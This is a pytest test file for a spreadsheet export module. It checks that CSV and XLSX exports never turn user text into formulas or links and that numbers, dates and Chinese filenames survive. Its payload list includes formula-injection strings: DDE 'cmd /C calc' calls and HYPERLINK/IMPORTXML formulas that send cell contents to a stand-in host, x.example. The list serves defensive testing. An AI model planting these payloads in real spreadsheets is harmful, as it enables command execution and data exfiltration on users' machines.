"""What leaves as a spreadsheet is read again: nothing typed by a person comes back as a formula."""

import csv
import io
import itertools
from datetime import date, datetime
from decimal import Decimal

from openpyxl import load_workbook

from congress.sheets.writing import FORMULA, csv_response, plain, xlsx_response

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0=", "＝", "＋", "－", "＠", " =", "\ufeff=", "'="]
BODIES = [
    "1+1",
    "cmd|'/C calc'!A0",
    'HYPERLINK("http://x.example/?"&A1,"点我")',
    "SUM(A1:A9)",
    'IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
    'DDE("cmd","/C calc")',
    "2+5+cmd|' /C calc'!A0",
    "@SUM(1)",
    '关于，“引号”"和"逗号,',
    "两行\r\n=1+1",
    "https://x.example/",
    "<b>粗</b>&amp;",
    "\x01\x02控制符",
    "_x003D_1",
    "䶮㛃𬱖",
    ";=1+1",
    '",=1+1,"',
]
ENDS = ["", " "]
PAYLOADS = [a + b + c for a, b, c in itertools.product(STARTS, BODIES, ENDS)][:500]


def sent(response) -> bytes:
    return b"".join(response.streaming_content)


def test_there_are_five_hundred_payloads():
    assert len(PAYLOADS) == 500


def test_no_text_becomes_a_formula_or_a_link_in_xlsx():
    book = load_workbook(io.BytesIO(sent(xlsx_response("清单", ["文"], ([text] for text in PAYLOADS)))))
    cells = [row[0] for row in book.active.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    assert {cell.data_type for cell in cells} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink]


def test_text_comes_back_from_xlsx_as_it_was_typed():
    texts = ["=1+1", "䶮㛃𬱖", " 前后有空 ", 'a,b"c', "012", "<b>"]
    book = load_workbook(io.BytesIO(sent(xlsx_response("清单", ["文"], [[text] for text in texts]))))
    assert [row[0] for row in book.active.iter_rows(min_row=2, values_only=True)] == texts


def test_no_cell_of_a_csv_begins_like_a_formula():
    text = sent(csv_response("清单", ["文"], ([text] for text in PAYLOADS))).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == len(PAYLOADS) + 1
    assert {len(row) for row in rows} == {1}
    assert not [row for row in rows if FORMULA.match(row[0])]


def test_numbers_and_days_stay_numbers_and_days():
    row = [3, -2.5, Decimal("75.3"), date(2026, 5, 26), datetime(2026, 5, 26, 10, 12), True, None]
    book = load_workbook(io.BytesIO(sent(xlsx_response("清单", list("abcdefg"), [row]))))
    assert [cell.value for cell in book.active[2]] == [
        3, -2.5, 75.3, datetime(2026, 5, 26), datetime(2026, 5, 26, 10, 12), "是", None,
    ]  # fmt: skip
    text = sent(csv_response("清单", list("abcdefg"), [row])).decode("utf-8-sig")
    assert text.splitlines()[1] == '"3","-2.5","75.3","2026-05-26","2026-05-26 10:12","是",""'


def test_a_csv_opens_in_chinese_and_carries_its_chinese_name():
    response = csv_response("代表建议 2026-05-26", ["编号"], [["第012号"]])
    assert sent(response).startswith(b"\xef\xbb\xbf")
    assert response["Content-Disposition"] == (
        "attachment; filename*=utf-8''%E4%BB%A3%E8%A1%A8%E5%BB%BA%E8%AE%AE%202026-05-26.csv"
    )


def test_an_xlsx_carries_its_chinese_name():
    response = xlsx_response("代表建议", ["编号"], [])
    assert response["Content-Disposition"] == "attachment; filename*=utf-8''%E4%BB%A3%E8%A1%A8%E5%BB%BA%E8%AE%AE.xlsx"


def test_a_csv_is_written_while_it_is_sent():
    drawn = []

    def rows():
        for number in range(3):
            drawn.append(number)
            yield [number]

    lines = iter(csv_response("清单", ["号"], rows()).streaming_content)
    next(lines)
    next(lines)
    assert drawn == [0]


def test_a_text_too_long_for_a_cell_is_cut_not_lost():
    assert len(plain("长" * 40_000)) == 32_767
